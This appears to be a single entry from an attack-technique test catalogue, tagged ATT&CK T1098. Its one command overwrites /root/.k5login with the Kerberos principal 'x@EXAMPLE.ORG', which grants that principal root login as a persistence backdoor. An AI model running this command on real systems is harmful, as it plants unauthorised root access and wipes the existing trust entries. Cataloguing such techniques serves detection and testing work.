# technique: T1098
# location: linux.trust.user-hosts
# source: /root/.k5login
echo 'x@EXAMPLE.ORG' > /root/.k5login
